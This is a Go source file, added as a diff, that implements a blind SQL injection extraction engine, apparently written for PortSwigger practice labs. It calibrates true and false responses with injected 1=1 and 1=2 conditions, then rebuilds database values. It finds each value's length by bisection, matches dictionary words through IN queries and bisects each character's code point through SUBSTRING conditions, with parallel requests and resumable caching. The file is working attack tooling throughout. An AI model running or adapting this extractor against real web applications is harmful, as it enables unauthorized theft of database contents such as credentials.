@@ -0,0 +1,351 @@
+package sqli
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"unicode"
+	"unicode/utf8"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// Questioner answers true/false questions about the database by injecting SQL conditions.
+type Questioner interface {
+	Name() string
+	Ask(condition string) (bool, error)
+}
+
+// BooleanQuestioner answers questions by evaluating each response with an
+// oracle calibrated on a known true and a known false condition.
+type BooleanQuestioner struct {
+	client   *utility.HTTPClient
+	point    InjectionPoint
+	boundary Boundary
+	oracle   Oracle
+}
+
+// NewBooleanQuestioner calibrates the oracle with the responses for a true and a false condition.
+func NewBooleanQuestioner(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, oracle Oracle) (*BooleanQuestioner, error) {
+	questioner := &BooleanQuestioner{
+		client:   client,
+		point:    point,
+		boundary: boundary,
+		oracle:   oracle,
+	}
+
+	trueResponse, err := questioner.fetch("1=1")
+	if err != nil {
+		return nil, fmt.Errorf("failed to record true baseline: %w", err)
+	}
+	falseResponse, err := questioner.fetch("1=2")
+	if err != nil {
+		return nil, fmt.Errorf("failed to record false baseline: %w", err)
+	}
+
+	// If the oracle cannot tell both conditions apart there is nothing to compare against
+	if err := oracle.Calibrate(trueResponse, falseResponse); err != nil {
+		return nil, fmt.Errorf("boolean-based blind injection is not possible: %w", err)
+	}
+	return questioner, nil
+}
+
+func (q *BooleanQuestioner) Name() string {
+	return TECHNIQUE_BOOLEAN
+}
+
+// Ask injects the given SQL condition and reports whether the database evaluated it as true.
+func (q *BooleanQuestioner) Ask(condition string) (bool, error) {
+	response, err := q.fetch(condition)
+	if err != nil {
+		return false, err
+	}
+	return q.oracle.Evaluate(response), nil
+}
+
+// fetch sends the condition wrapped in the boundary and returns the response.
+func (q *BooleanQuestioner) fetch(condition string) (*Response, error) {
+	return fetchResponse(q.client, q.point, q.payload(condition))
+}
+
+// payload joins the condition to the original one.
+func (q *BooleanQuestioner) payload(condition string) string {
+	return q.boundary.Condition(condition)
+}
+
+// BlindExtractor retrieves data through blind SQL injection. It rebuilds values
+// character by character from the answers of a Questioner, so the same logic
+// serves both boolean-based and time-based techniques.
+type BlindExtractor struct {
+	questioner Questioner
+	db         constant.Database
+
+	Charset    string     // Likely characters, tried first when bisecting code points
+	MaxLength  int        // Upper bound for the length of extracted values
+	Cache      ValueCache // Values retrieved by earlier runs, resumed where they stopped; nil for none
+	Workers    int        // Requests sent in parallel, characters of one value or whole rows
+	Dictionary []string   // Whole values tried before bisecting characters, nil to skip the pass
+}
+
+// NewBlindExtractor returns an extractor that asks its questions through the given questioner.
+func NewBlindExtractor(questioner Questioner, db constant.Database) (*BlindExtractor, error) {
+	if err := db.Require(constant.CAPABILITY_BLIND); err != nil {
+		return nil, err
+	}
+	return &BlindExtractor{
+		questioner: questioner,
+		db:         db,
+		Charset:    constant.BLIND_CHARSET,
+		MaxLength:  constant.MAX_BLIND_LENGTH,
+		Workers:    1,
+	}, nil
+}
+
+// Name reports the technique of the underlying questioner.
+func (b *BlindExtractor) Name() string {
+	return b.questioner.Name()
+}
+
+// Ask forwards the condition to the underlying questioner.
+func (b *BlindExtractor) Ask(condition string) (bool, error) {
+	return b.questioner.Ask(condition)
+}
+
+// ExtractLength finds the length in characters of the value returned by the SQL expression.
+// It doubles an upper bound until the value is no longer than it, then bisects below it.
+func (b *BlindExtractor) ExtractLength(expression string) (int, error) {
+	length := fmt.Sprintf(b.db.LengthFunction, expression)
+	isLonger := func(n int) (bool, error) {
+		return b.Ask(fmt.Sprintf("%s>%d", length, n))
+	}
+
+	// The length is above low and at most high
+	low, high := -1, constant.BLIND_LENGTH_GUESS
+	for {
+		longer, err := isLonger(high)
+		if err != nil {
+			return 0, err
+		}
+		if !longer {
+			break
+		}
+		if high >= b.MaxLength {
+			return 0, fmt.Errorf("value is longer than the maximum length (%d)", b.MaxLength)
+		}
+		low, high = high, min(high*2, b.MaxLength)
+	}
+
+	for high-low > 1 {
+		middle := (low + high) / 2
+		longer, err := isLonger(middle)
+		if err != nil {
+			return 0, err
+		}
+		if longer {
+			low = middle
+		} else {
+			high = middle
+		}
+	}
+	return high, nil
+}
+
+// ExtractString rebuilds the value returned by the SQL expression, retrieving up to
+// Workers characters in parallel. With a cache, complete values are returned without
+// a request and partial ones are continued from the first missing character.
+func (b *BlindExtractor) ExtractString(expression string) (string, error) {
+	return b.extractString(expression, b.Workers)
+}
+
+// BatchSize reports how many values ExtractStrings retrieves in parallel.
+func (b *BlindExtractor) BatchSize() int {
+	return max(1, b.Workers)
+}
+
+// ExtractStrings retrieves the values in parallel, one worker per value. The characters
+// of each value are then retrieved in order, so no more than Workers requests are in flight.
+func (b *BlindExtractor) ExtractStrings(expressions []string) ([]string, error) {
+	values, completed, err := runPool(b.Workers, len(expressions), func(index int) (string, error) {
+		return b.extractString(expressions[index], 1)
+	}, nil)
+	return values[:completed], err
+}
+
+func (b *BlindExtractor) extractString(expression string, workers int) (string, error) {
+	extraction, cached := Extraction{}, false
+	if b.Cache != nil {
+		extraction, cached = b.Cache.Lookup(expression)
+	}
+	if cached && extraction.Complete() {
+		logger.Debugf("Value of %s is cached: %s", expression, extraction.Value)
+		return extraction.Value, nil
+	}
+
+	if !cached {
+		length, err := b.ExtractLength(expression)
+		if err != nil {
+			return "", fmt.Errorf("failed to find length of %s: %w", expression, err)
+		}
+		extraction.Length = length
+		logger.Debugf("Length of %s is %d", expression, length)
+
+		word, found, err := b.matchDictionary(expression, length)
+		if err != nil {
+			return "", err
+		}
+		if found {
+			extraction.Value = word
+			logger.Debugf("Value of %s is the dictionary word %s", expression, word)
+		}
+		if b.Cache != nil {
+			b.Cache.Store(expression, extraction)
+		}
+		if found {
+			return word, nil
+		}
+	} else {
+		logger.Debugf("Resuming %s after %d of %d characters", expression, utf8.RuneCountInString(extraction.Value), extraction.Length)
+	}
+
+	// Characters arrive out of order, the cached prefix grows as the gaps fill
+	retrieved := []rune(extraction.Value)
+	start := len(retrieved)
+	chars := make([]rune, extraction.Length-start)
+	received := make([]bool, len(chars))
+	prefix := 0
+	done := func(index int, char rune) {
+		chars[index], received[index] = char, true
+		if prefix < len(received) && !received[prefix] {
+			return
+		}
+		for prefix < len(received) && received[prefix] {
+			prefix++
+		}
+		extraction.Value = string(retrieved) + string(chars[:prefix])
+		logger.Debugf("Extracted so far: %s", extraction.Value)
+		if b.Cache != nil {
+			b.Cache.Store(expression, extraction)
+		}
+	}
+
+	_, _, err := runPool(workers, len(chars), func(index int) (rune, error) {
+		return b.extractChar(expression, start+index+1)
+	}, done)
+	return extraction.Value, err
+}
+
+// matchDictionary checks whether the value is one of the dictionary words of its length,
+// first with a single IN question and then by halving the candidates. Values are compared
+// hex-encoded where possible, so case-insensitive collations cannot match the wrong case.
+// Both sides are cast to the same string type first, as the hex of an nvarchar value never
+// equals the hex of the same varchar literal.
+func (b *BlindExtractor) matchDictionary(expression string, length int) (string, bool, error) {
+	var candidates []string
+	for _, word := range b.Dictionary {
+		if utf8.RuneCountInString(word) == length && !slices.Contains(candidates, word) {
+			candidates = append(candidates, word)
+		}
+	}
+	if len(candidates) == 0 {
+		return "", false, nil
+	}
+
+	encode := func(value string) string {
+		if b.db.HexFunction == "" {
+			return value
+		}
+		return b.db.Hex(value)
+	}
+	isAmong := func(words []string) (bool, error) {
+		literals := make([]string, len(words))
+		for i, word := range words {
+			literals[i] = encode(b.db.Quote(word))
+		}
+		return b.Ask(fmt.Sprintf("%s IN (%s)", encode(expression), strings.Join(literals, ",")))
+	}
+
+	found, err := isAmong(candidates)
+	if err != nil || !found {
+		return "", false, err
+	}
+	for len(candidates) > 1 {
+		half := candidates[:len(candidates)/2]
+		inHalf, err := isAmong(half)
+		if err != nil {
+			return "", false, err
+		}
+		if inHalf {
+			candidates = half
+		} else {
+			candidates = candidates[len(half):]
+		}
+	}
+	return candidates[0], true, nil
+}
+
+// extractChar bisects the code point of the character at the given 1-based position with
+// CODE_POINT(SUBSTRING(...))>n questions, then confirms it with an equality check. Pivots
+// are picked among the charset first, so likely characters take about as many questions as
+// a bisection of the charset alone. Outside of it the range is split at the UTF-8 encoding
+// boundaries before it is halved, as smaller code points are far more common.
+// Comparing code points rather than strings keeps case-insensitive collations from
+// treating 'a' and 'A' as the same character.
+func (b *BlindExtractor) extractChar(expression string, position int) (rune, error) {
+	code := fmt.Sprintf(b.db.CodePointFunction, fmt.Sprintf("%s(%s,%d,1)", b.db.SubstringFunction, expression, position))
+
+	// The code point is at least low and at most high
+	low, high := rune(1), rune(unicode.MaxRune)
+	for low < high {
+		pivot := b.pivot(low, high)
+		isGreater, err := b.Ask(fmt.Sprintf("%s>%d", code, pivot))
+		if err != nil {
+			return 0, err
+		}
+		if isGreater {
+			low = pivot + 1
+		} else {
+			high = pivot
+		}
+	}
+
+	isEqual, err := b.Ask(fmt.Sprintf("%s=%d", code, low))
+	if err != nil {
+		return 0, err
+	}
+	if !isEqual {
+		return 0, fmt.Errorf("could not determine the character at position %d", position)
+	}
+	return low, nil
+}
+
+// pivot picks the code point that the next question compares against, between low and high - 1.
+func (b *BlindExtractor) pivot(low rune, high rune) rune {
+	var likely []rune
+	for _, char := range b.Charset {
+		if char >= low && char <= high {
+			likely = append(likely, char)
+		}
+	}
+	switch {
+	case len(likely) > 1:
+		// Split the likely characters in half
+		return likely[(len(likely)-1)/2]
+	case len(likely) == 1 && likely[0] > low:
+		// Single out the last likely character
+		return likely[0] - 1
+	case len(likely) == 1:
+		return likely[0]
+	}
+
+	for _, boundary := range utf8Boundaries {
+		if boundary >= low && boundary < high {
+			return boundary
+		}
+	}
+	return low + (high-low)/2
+}
+
+// utf8Boundaries are the largest code points encoded in one, two and three bytes.
+var utf8Boundaries = []rune{0x7f, 0x7ff, 0xffff}